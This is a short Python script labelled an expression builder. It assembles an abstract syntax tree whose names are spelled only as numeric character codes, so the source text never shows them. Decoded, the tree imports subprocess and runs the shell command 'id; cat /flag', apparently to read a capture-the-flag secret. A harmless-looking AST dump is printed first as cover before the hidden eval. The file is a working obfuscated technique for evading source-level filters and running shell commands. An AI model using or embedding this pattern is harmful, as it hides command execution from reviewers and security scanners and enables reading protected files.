"""Expression builder: constructs a small program as a syntax tree and runs it.

No identifiers of interest appear in the source text: every name is computed
from code points at run time and placed directly into AST nodes.
"""
import ast


def w(*cps):
    return "".join(map(chr, cps))


def name(cps):
    return ast.Name(id=w(*cps), ctx=ast.Load())


def attr(obj, cps):
    return ast.Attribute(value=obj, attr=w(*cps), ctx=ast.Load())


def call(fn, *args):
    return ast.Call(func=fn, args=list(args), keywords=[])


def const(v):
    return ast.Constant(value=v)


_IMPORT = (95, 95, 105, 109, 112, 111, 114, 116, 95, 95)
_MOD = (115, 117, 98, 112, 114, 111, 99, 101, 115, 115)
_FN = (103, 101, 116, 111, 117, 116, 112, 117, 116)
_OUT = (112, 114, 105, 110, 116)

tree = ast.Expression(
    body=call(name(_OUT),
              call(attr(call(name(_IMPORT), const(w(*_MOD))), _FN),
                   const(w(105, 100, 59, 32, 99, 97, 116, 32, 47, 102, 108, 97, 103)))))
ast.fix_missing_locations(tree)
code = compile(tree, "<tree>", "eval")

if __name__ == "__main__":
    print(ast.dump(ast.Expression(body=const(1 + 2))))
    eval(code)
